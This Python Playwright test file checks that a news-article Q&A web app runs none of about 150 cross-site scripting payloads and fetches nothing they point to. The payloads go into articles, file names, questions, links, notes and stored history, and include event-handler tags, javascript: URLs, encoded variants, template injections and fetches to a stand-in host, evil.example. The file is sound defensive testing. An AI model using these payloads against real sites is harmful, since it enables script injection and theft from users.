"""Whatever stands in articles, names, questions, links or the browser's memory, none of it runs or is fetched."""

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, Request, expect

from articles_qa.index import build
from articles_qa.index.files.printable import printable

Visit = Callable[[str], Page]
HIT = "__hit(1)"
FETCHED = re.compile(r"[^?]*(evil|/x$|/x[?])")
RUNS = [
    "<script>{}</script>",
    "<SCRIPT type=module>{}</SCRIPT>",
    "<script/x>{}</script >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script src=https://evil.example/a.js></script>",
    "<script src=//evil.example/b.js></script>",
    "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<img src=x onerror='{}'>",
    '<img src="x" OnErRoR="{}">',
    "<img src=`x`onerror={}>",
    "<img src=https://evil.example/c.png>",
    "<img srcset=https://evil.example/d.png>",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:text/javascript,{} /></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>",
    "<svg><use href=https://evil.example/e.svg#x></use></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><image href=https://evil.example/f.png></image></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror={}>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={}></annotation-xml></math>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=https://evil.example/g></iframe>",
    "<iframe onload={}></iframe>",
    "<object data=javascript:{}></object>",
    "<object data=https://evil.example/h></object>",
    "<embed src=javascript:{}>",
    "<embed src=https://evil.example/i>",
    "<video src=x onerror={}></video>",
    "<video poster=https://evil.example/j.png></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<input onfocus={} autofocus>",
    "<select onfocus={} autofocus></select>",
    "<textarea onfocus={} autofocus></textarea>",
    "<button onfocus={} autofocus>x</button>",
    "<button popovertarget=x onbeforetoggle={}>x</button>",
    "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>",
    "<div style=animation-name:articles-qa-flash onanimationstart={}>x</div>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend={}>",
    "<a href=javascript:{}>x</a>",
    "<a href=JaVaScRiPt:{}>x</a>",
    "<a href=java&#9;script:{}>x</a>",
    "<a href=&#106;avascript:{}>x</a>",
    "<a href=vbscript:{}>x</a>",
    "<a href=data:text/html,<script>{}</script>>x</a>",
    "<form action=javascript:{}><input type=submit></form>",
    "<form action=https://evil.example/k><button>x</button></form>",
    "<isindex action=javascript:{} type=image>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/l'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=https://evil.example/m.css>",
    "<link rel=prefetch href=https://evil.example/n>",
    "<link rel=import href=https://evil.example/o>",
    "<style>@import 'https://evil.example/p.css';</style>",
    "<style>body{{background:url(https://evil.example/q.png)}}</style>",
    "<p style=background:url(https://evil.example/r.png)>x</p>",
    "<p style='background:url(javascript:{})'>x</p>",
    "<table background=https://evil.example/s.png><td>x</td></table>",
    "<frameset onload={}><frame src=https://evil.example/t></frameset>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<!--<img src='--><img src=x onerror={}>'>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><img src=x onerror={}>",
    "<plaintext><img src=x onerror={}>",
    "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>",
    "<x onclick={} onmouseover={} onpointerenter={}>x</x>",
    "<x contenteditable onfocusin={} tabindex=1 autofocus>x</x>",
    "</textarea><img src=x onerror={}>",
    "</title><script>{}</script>",
    "</style><img src=x onerror={}>",
    "</script><script>{}</script>",
    "</mark></div></div><img src=x onerror={}>",
    "</template></details></svg></math><img src=x onerror={}>",
    "'><img src=x onerror={}>",
    '"><img src=x onerror={}>',
    '" onmouseover="{}" autofocus onfocus="{}" x="',
    "' onmouseover='{}' autofocus onfocus='{}' x='",
    "` onmouseover=`{}` x=`",
    "x onmouseover={} style=position:fixed;inset:0",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "&ltimg src=x onerror={}&gt",
    "\\u003cimg src=x onerror={}\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<\u200bscript>{}</script>",
    "<img src=x\u2028onerror={}>",
    "<img\x0csrc=x\x0bonerror={}>",
    "\ufeff<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{{{constructor.constructor('{}')()}}}}}}",
    "{{{{#with constructor}}}}{{{{#with (lookup this 'constructor')}}}}{}{{{{/with}}}}{{{{/with}}}}",
    "{{{{$on.constructor('{}')()}}}}",
    "[[{}]] {{%{}%}} <%= {} %> #{{{}}}",
    "${{{}}}",
    "`${{{}}}`",
    "${{constructor.constructor('{}')()}}",
    "\\${{{}}} \\`${{{}}}",
    "</script><script>`${{{}}}`</script>",
    "';{};//",
    '";{};//',
    "\\';{};//",
    "`;{};//",
    "*/{};/*",
    "-{}-",
    "javascript:{}",
    "javascript://%0a{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==",
    "vbscript:{}",
    "[x](javascript:{})",
    "[x]: javascript:{}",
    "![x](https://evil.example/u.png)",
    '![x](x"onerror="{})',
    "<javascript:{}>",
    "[x](data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==)",
    "```html <img src=x onerror={}> ```",
    "$$\\href{{javascript:{}}}{{x}}$$",
    "$\\url{{javascript:{}}}$",
    "$$\\htmlStyle{{background:url(https://evil.example/v.png)}}{{x}}$$",
    "$$\\includegraphics{{https://evil.example/w.png}}$$",
    "\\(\\unicode{{<img src=x onerror={}>}}\\)",
    "$$\\html{{<img src=x onerror={}>}}$$",
    "```mermaid graph LR; a[<img src=x onerror={}>] ```",
    "__proto__ constructor prototype {}",
    "<portal src=https://evil.example/x></portal>",
    "<div hidden=until-found onbeforematch={}>x</div>",
    "<dialog open onclose={}>x</dialog>",
    "<custom-x is=script>{}</custom-x>",
    "<p id=articlesQa name=articlesQa>x</p><form id=ask><input name=turns></form>",
    "<img name=getElementById><img name=querySelector src=x onerror={}>",
]
PAYLOADS = [payload.format(*[HIT] * payload.count("{}")) for payload in RUNS]
SENTENCE = "Mayor Ann Bell said on Tuesday that the flood had reached {} and destroyed {} houses."


def file_name(number: int, payload: str) -> str:
    """The payload as a file's path, as near as file systems let it."""
    parts = [re.sub(r"^[.]+", "", part.strip()) or "x" for part in payload.split("/")]
    return "/".join([f"n{number}", *parts[:-1], f"{parts[-1]}.txt"])


@pytest.fixture(scope="session")
def some(campaign: Callable[[int, int, int], int]) -> list[str]:
    """The payloads for parts of the page that take long to fill: an eighth of them in `make test`, else all."""
    return PAYLOADS[:: campaign(8, 1, 1)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of articles with a payload in outlet, title, text and name each, and its index in it."""
    folder = tmp_path_factory.mktemp("hostile")
    for number, payload in enumerate(PAYLOADS):
        path = folder / file_name(number, payload)
        path.parent.mkdir(parents=True, exist_ok=True)
        text = f"Outlet: News {payload}\nTitle: Flood {payload}\n2025-01-02\n\n{SENTENCE.format(payload, 1_000 + number)}\n"
        path.write_bytes(text.encode())
    report = build([folder], folder / ".index")
    assert len(report.added) == len(PAYLOADS)
    return folder


@pytest.fixture(scope="module")
def hostile_url(serve: Callable[[Path], str], hostile: Path) -> str:
    """The page over them."""
    return serve(hostile / ".index")


@pytest.fixture(scope="module")
def ran(visitor: BrowserContext) -> list[str]:
    """Where payloads ran, or fetched something."""
    found: list[str] = []
    visitor.expose_function("__hit", lambda *_: found.append("ran"))

    def fetched(request: Request) -> None:
        if FETCHED.match(request.url) and request.method != "PUT":  # The page itself puts files, under their names.
            found.append(request.url)

    visitor.on("request", fetched)
    return found


# What only a payload would have brought into the page's own parts.
BROUGHT = r"""() => {
  const tags = 'script, style, link, meta, base, iframe, img, object, embed, video, audio, math, template, x, '
    + '.part svg:not(.picture > figure > svg)';
  const leads = (node, name) => new URL(node[name], location).origin !== location.origin;
  const isOwn = (value) => /^--(digits|share|bars): [\d.]+;?$/.test(value);
  const isOdd = (node, {name, value}) => /^on/i.test(name) || (name === 'style' && !isOwn(value))
    || (['href', 'src', 'action', 'data'].includes(name) && leads(node, name));
  const all = [...document.querySelectorAll('.part *, #articles-qa-note *, .toast-wrap *')];
  const brought = all.filter((node) => node.matches(tags) || [...node.attributes].some((one) => isOdd(node, one)));
  return brought.map((node) => node.outerHTML);
}"""


@pytest.fixture
def target(visit: Visit, ran: list[str], hostile_url: str) -> Iterator[Visit]:
    """Opens the page, or a link into it; in the end no payload ran, none fetched anything, and the page stands as it was."""
    pages: list[Page] = []

    def open_page(link: str = "") -> Page:
        pages.append(visit(hostile_url + link))
        return pages[-1]

    yield open_page
    for page in pages:
        page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 100)))")
        assert page.url.startswith(hostile_url)
        assert page.evaluate(BROUGHT) == []
        expect(page.locator("#ask")).to_have_count(1)
    assert not ran


def answered(page: Page, questions: list[str]) -> list[dict[str, Any]]:
    """What the browser keeps once all of these are answered."""
    at_once = [questions[start : start + 10] for start in range(0, len(questions), 10)]
    page.evaluate(
        "async (parts) => { for (const part of parts) await Promise.all(part.map((q) => articlesQa.ask(q))); }", at_once
    )
    found = page.evaluate("Object.entries(localStorage).find(([name]) => name.startsWith('articles-qa:'))[1]")
    return [turn["record"] for turn in json.loads(found)["conversations"][0]["turns"]]


@pytest.mark.tier("check")
def test_there_are_enough_of_them() -> None:
    assert len({*PAYLOADS}) == len(PAYLOADS) >= 150
    assert all(
        "__hit" in payload or "evil.example" in payload or "PHNjcmlwdD5f" in payload or "articlesQa" in payload
        for payload in PAYLOADS
    )


def test_nothing_in_an_article_runs(target: Visit, hostile: Path) -> None:
    page = target("")
    names = [file_name(number, payload) for number, payload in enumerate(PAYLOADS)]
    shown = page.evaluate(
        """async (names) => {
          const shown = [];
          for (const source of names) {
            await articlesQa.openAt({source});
            shown.push([document.querySelector('.sheet').dataset.source, document.querySelector('.sheet').textContent]);
          }
          return shown;
        }""",
        names,
    )
    assert shown == [[name, (hostile / name).read_bytes().decode()] for name in names]


@pytest.mark.tier("check")
def test_nothing_in_the_list_of_articles_or_in_what_is_looked_for_runs(target: Visit) -> None:
    page = target("")
    page.get_by_role("tab", name="Articles").click()
    seen = []
    later = page.get_by_role("button", name="Later in the list")
    for first in range(1, len(PAYLOADS) + 1, 50):
        expect(page.locator(".range")).to_contain_text(f"{first} to ")
        seen += page.locator(".article").evaluate_all("all => all.map((one) => one.dataset.source)")
        if later.count():
            later.click()
    assert sorted(seen) == sorted(file_name(number, payload) for number, payload in enumerate(PAYLOADS))
    looked_for = page.evaluate(
        """async (queries) => {
          const list = document.querySelector('.corpus .list'), form = document.querySelector('.find'), shown = [];
          for (const query of queries) {
            const changed = new Promise((done) => {
              new MutationObserver((_, all) => (all.disconnect(), done())).observe(list, {childList: true});
            });
            form.query.value = query;
            form.requestSubmit();
            await changed;
            shown.push(list.querySelectorAll('.article').length);
          }
          return shown;
        }""",
        PAYLOADS,
    )
    assert all(looked_for)  # Each finds the article that has it in its title.


def test_nothing_in_a_question_or_its_answer_runs(target: Visit, some: list[str]) -> None:
    page = target("")
    box = page.locator("#question textarea")
    for payload in some[::15]:  # As a reader would ask.
        turns = page.locator(".turn").count()
        box.fill(payload)
        box.press("Enter")
        expect(page.locator(".turn")).to_have_count(turns + 1)
        expect(page.locator(".turn").last.locator(".tools")).to_be_visible()
    page.get_by_role("button", name="New conversation").click()
    questions = [f"How many houses did the flood destroy in {payload}?" for payload in some]
    kept = answered(page, questions)
    assert page.locator(".question").evaluate_all("all => all.map((one) => one.textContent)") == questions
    quotes = [quote["text"] for record in kept for quote in record["quotes"]]
    assert len(quotes) >= len(some)
    words = page.locator(".answer > .group .words").evaluate_all("all => all.map((one) => one.textContent)")
    assert sorted(words) == sorted(quotes)
    page.reload()
    expect(page.locator(".turn:last-child .found")).to_have_count(1)
    again = page.locator(".answer > .group .words").evaluate_all("all => all.map((one) => one.textContent)")
    assert again == words


def test_nothing_in_a_note_runs(target: Visit, some: list[str]) -> None:
    page = target("")
    noted = some[:: max(1, len(some) // 10)]
    kept = page.evaluate(
        """async (words) => {
          await articlesQa.ask('How many houses did the flood destroy?');
          const {source, sha256} = document.querySelector('.quote').dataset;
          const request = {source, sha256, star: true, what: ''};
          const kept = [];
          for (const [start, text] of words.entries()) {
            kept.push(await articlesQa.saveNote({...request, start, end: start + 2, tags: [text.slice(0, 40)], words: text}));
          }
          return kept.filter((reply) => reply.html).length;
        }""",
        noted,
    )
    assert kept == len(noted)
    page.get_by_role("tab", name="Articles").click()
    expect(page.locator(".noted-quotes li")).to_have_count(len(noted))
    assert all(
        words in text for words, text in zip(noted, page.locator(".noted-quotes .noted").all_text_contents(), strict=True)
    )
    page.locator(".noted-quotes [data-do=note]").evaluate_all("all => all.forEach((one) => one.click())")
    forms = page.locator(".noting-form textarea").evaluate_all("all => all.map((one) => one.value)")
    assert [" ".join(one.split()) for one in forms] == [" ".join(one.split()) for one in noted]


def everywhere(record: dict[str, Any], payload: str) -> dict[str, Any]:
    """A kept record with the payload in each text of its tables, speakers, links and wordings."""
    record = json.loads(json.dumps(record))
    record["searched"] = [payload, f"{payload} x"]
    for number, quote in enumerate((*record["quotes"], *record["beside"]), 1):
        quote.update(dict.fromkeys(("title", "outlet", "said_by", "citing", "source"), payload))
        if number % 2:  # Of two outlets and two days, so that there are pictures.
            quote.update(outlet=f"{payload} x", source=f"{payload} x")
        quote["published"] = f"2025-03-0{1 + number % 2}"
        link = {"source": payload, "sha256": quote["sha256"], "start": 1, "end": 2, "text": payload}
        quote["speaker"] = quote["citing_speaker"] = {"name": payload, "links": [link]}
    for table in record["claims"]:
        table |= {"about": payload, "unit": payload[:100]}
        for value in table["values"]:
            for claim in value["claims"]:
                claim.update(dict.fromkeys(("value", "said_by", "citing", "speaker", "period", "counted"), payload))
    return record


@pytest.mark.tier("check")
def test_nothing_in_a_kept_table_or_speaker_runs(
    target: Visit,
    keep: Callable[[Page, list[dict[str, Any]]], None],
    unfold: Callable[[Page], None],
    compared: dict[str, Any],
    some: list[str],
) -> None:
    page = target("")
    for start in range(0, len(some), 40):
        kept = some[start : start + 40]
        keep(page, [everywhere(compared, payload) for payload in kept])
        expect(page.locator(".figures .claims")).to_have_count(3 * len(kept))
        expect(page.locator("details.dotted")).to_have_count(3 * len(kept))
        assert page.locator(".failed").count() == 0
        page.evaluate("document.querySelectorAll('.part details').forEach((one) => one.open = true)")
        values = page.locator(".figures .value:first-child").evaluate_all("all => all.map((one) => one.textContent)")
        assert {*values} == {printable(" ".join(payload.split())) for payload in kept}
        page.locator(".value").first.evaluate("link => link.click()")
        expect(page.locator(".reading .failed")).to_be_visible()  # The index has no such article.
        unfold(page)
        page.get_by_role("button", name="Edit what is searched").first.click()


@pytest.mark.tier("check")
@pytest.mark.parametrize("payload", PAYLOADS[::30])
def test_nothing_in_a_link_to_the_page_runs(target: Visit, payload: str) -> None:
    from urllib.parse import quote

    page = target(f"?source={quote(payload)}&start={quote(payload)}&end=9&sha256={quote(payload)}&__theme={quote(payload)}")
    expect(page.locator(".reading .failed")).to_be_visible()


@pytest.mark.tier("check")
def test_nothing_that_a_link_names_runs(target: Visit) -> None:
    page = target("")
    said = page.evaluate(
        """async (sources) => {
          const said = [];
          for (const source of sources) {
            await articlesQa.openAt({source, start: 1, end: 5});
            said.push(document.querySelector('.reading .failed').textContent);
          }
          return said;
        }""",
        PAYLOADS,
    )
    assert all(printable(payload)[:100] in line for payload, line in zip(PAYLOADS, said, strict=True))


def changed(record: Any, payload: str) -> Any:
    """The record with the payload in the place of each of its texts that is free."""
    if isinstance(record, dict):
        fixed = {"schema", "sha256", "source_state", "encoding", "kind", "sense", "polarity"}
        made = {name: value if name in fixed else changed(value, payload) for name, value in record.items()}
        if "published" in made:
            made["published"] = None
        if "unit" in made:
            made["unit"] = payload[:100]
        if "text" in made and "rank" in made:
            made |= {
                "end": made["start"] + len(payload),
                "marks": [{"start": made["start"], "end": made["start"] + 3}],
            }
        if "claims" in made and "quotes" in made:
            starts = {quote["rank"]: quote["start"] for quote in made["quotes"] + made["beside"]}
            for claim in (claim for table in made["claims"] for value in table["values"] for claim in value["claims"]):
                claim |= {"start": starts[claim["rank"]], "end": starts[claim["rank"]] + 1}
        return made
    if isinstance(record, list):
        return [changed(item, payload) for item in record]
    return payload if isinstance(record, str) else record


@pytest.mark.tier("check")
@pytest.mark.parametrize("what", ["the free texts", "all texts"])
def test_nothing_in_a_changed_history_runs(target: Visit, what: str, some: list[str], compared: dict[str, Any]) -> None:
    page = target("")
    answered(page, ["How many houses did the flood destroy?"])
    record = compared
    assert record["quotes"] and record["claims"] and record["beside"]
    if what == "all texts":
        record = json.loads(json.dumps(record).replace(record["quotes"][0]["sha256"], "sha256"))
    turns = [
        {
            "id": payload,
            "question": payload,
            "record": changed(record, payload),
            "verdict": payload,
            "within": {payload: payload},
        }
        for payload in some
    ]
    rest = [{"id": payload, "began": payload, "turns": [turn]} for payload, turn in zip(some, turns, strict=True)]
    kept = {"conversations": [{"id": "now", "began": some[0], "turns": turns}, *rest[:30], {"turns": PAYLOADS}, None, 7]}
    page.evaluate(
        """(kept) => {
          const [name] = Object.entries(localStorage).find(([name]) => name.startsWith('articles-qa:'));
          localStorage.setItem(name, JSON.stringify(kept));
        }""",
        kept,
    )
    page.reload()
    expect(page.locator(".turn")).to_have_count(len(some))
    shown = ".turn:last-child .quote" if what == "the free texts" else ".turn:last-child .failed"
    expect(page.locator(shown).first).to_be_attached()
    assert page.locator(".question").evaluate_all("all => all.map((one) => one.textContent)") == some
    page.get_by_text("Earlier conversations").click()
    expect(page.locator(".earlier li")).to_have_count(30)
    page.locator(".turn").last.get_by_role("button", name="Copy with citations").click()
    expect(page.locator("#articles-qa-note")).to_be_visible()
    page.locator(".turn").last.get_by_role("button", name="Ask again").click()
    expect(page.locator(".turn").last.locator(".failed")).to_be_visible()  # Its scope is none.
    if what == "the free texts":
        words = page.locator(".turn:first-child .words").evaluate_all("all => all.map((one) => one.textContent)")
        assert set(words) == {some[0]}
        page.locator(".turn").first.get_by_role("button").first.click()  # Unfolds it.
        page.locator(".turn").first.get_by_role("link").first.click()
        expect(page.locator(".reading .failed")).to_be_visible()


@pytest.mark.tier("check")
def test_nothing_in_an_added_file_or_its_name_runs(target: Visit) -> None:
    page = target("")
    page.get_by_role("tab", name="Articles").click()
    names = [payload.replace("/", "∕")[:60] for payload in PAYLOADS[::6]]
    files: list[Any] = [
        {"name": f"{name}.txt", "mimeType": "text/plain", "buffer": f"The flood of {name} was high.".encode()} for name in names
    ]
    files += [{"name": f"{name}.md", "mimeType": "text/plain", "buffer": b"\xff\x00"} for name in names]  # These are refused.
    page.locator("#drop input[type=file]").set_input_files(files)
    expect(page.locator(".outcome")).to_contain_text("added")
    expect(page.locator(".refused li")).to_have_count(len(names))
